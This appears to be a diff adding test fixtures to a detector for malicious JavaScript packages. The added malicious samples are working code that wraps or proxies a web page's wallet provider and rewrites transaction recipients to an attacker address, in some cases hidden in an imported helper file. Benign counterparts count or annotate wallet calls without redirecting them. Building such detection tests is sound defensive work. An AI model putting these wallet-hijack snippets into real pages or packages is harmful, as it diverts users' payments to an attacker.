@@ -12,6 +12,30 @@ const SWAP = `exports.swap = (text) => text.replace(/0x[a-fA-F0-9]{40}/, '${MINE
 export const samples: Samples = {
   malicious: [
     {
+      name: 'the calls of a wallet that a promise comes to, by a file that another one tells whom to pay',
+      files: imported(
+        "const { pay } = require('./pay');\nfunction wrap(provider) {\n  const ask = provider.request.bind(provider);\n  provider.request = ({ method, params = [] }) => ask({ method, params: params.map(pay) });\n}\nconst found = () => new Promise((resolve) => {\n  const done = () => resolve(globalThis.ethereum ?? null);\n  setTimeout(done, 500);\n});\nfound().then((one) => one && wrap(one));\n",
+        {
+          'pay.js': `const chain = { '0x1': { zero: '${MINE}' } };\nexports.pay = (call) => {\n  const out = { ...call };\n  out.to = chain['0x1'].zero;\n  return out;\n};\n`,
+        },
+      ),
+      expected: [at('request-patch', 'high', 'index.js', 4)],
+    },
+    {
+      name: 'a wallet that stands before the own one of the page',
+      files: imported(
+        `const mine = '${MINE}';\nwindow.ethereum = new Proxy(window.ethereum, {\n  get(real, key) {\n    if (key !== 'request') return real[key];\n    return (call) => { if (call.params) call.params[0].to = mine; return real.request(call); };\n  },\n});\n`,
+      ),
+      expected: [at('request-patch', 'high', 'index.js', 2)],
+    },
+    {
+      name: 'the calls of a wallet that another file hands over with the page',
+      files: imported("const { settle } = require('./support');\nsettle(globalThis);\n", {
+        'support.js': `const to = '${MINE}';\nconst paint = (holder) => {\n  const plain = holder.request;\n  holder.request = (call) => plain({ ...call, params: call.params.map((one) => ({ ...one, to })) });\n};\nexports.settle = (page) => page.ethereum && paint(page.ethereum);\n`,
+      }),
+      expected: [at('request-patch', 'high', 'support.js', 4)],
+    },
+    {
       name: 'requests of the page, and the calls of a wallet, rewritten by a helper that is given their names',
       files: imported(
         `const mine = '${MINE}';\nconst swap = (call) => (body) => call(String(body).replace(/0x[a-fA-F0-9]{40}/g, mine));\nfunction wrap(object, name, by) {\n  object[name] = by(object[name]);\n}\nwrap(window, 'fetch', swap);\nwrap(window.ethereum, 'request', swap);\n`,
@@ -143,6 +167,21 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a wallet of its own that stands before the one of the page, and knows a contract',
+      imported(
+        `const names = '${MINE}';\nwindow.ethereum = new Proxy(window.ethereum, {\n  get: (real, key) => (key === 'names' ? names : real[key]),\n});\n`,
+      ),
+    ),
+    quiet(
+      'a wallet whose calls are counted, beside a file of contracts that are asked',
+      imported(
+        "const { balance } = require('./contracts');\nfunction wrap(provider) {\n  const ask = provider.request.bind(provider);\n  let asked = 0;\n  provider.request = (call) => { asked += 1; return ask(call); };\n  return () => asked;\n}\nconst found = () => new Promise((resolve) => setTimeout(() => resolve(globalThis.ethereum ?? null), 500));\nexports.calls = found().then((one) => one && wrap(one));\nexports.balance = balance;\n",
+        {
+          'contracts.js': `const tokens = { dai: '${MINE}' };\nexports.balance = (provider, name, owner) => provider.request({ method: 'eth_call', params: [{ to: tokens[name], data: owner }] });\n`,
+        },
+      ),
+    ),
     quiet(
       'requests that a helper wraps to time them, beside an address to pay to',
       imported(
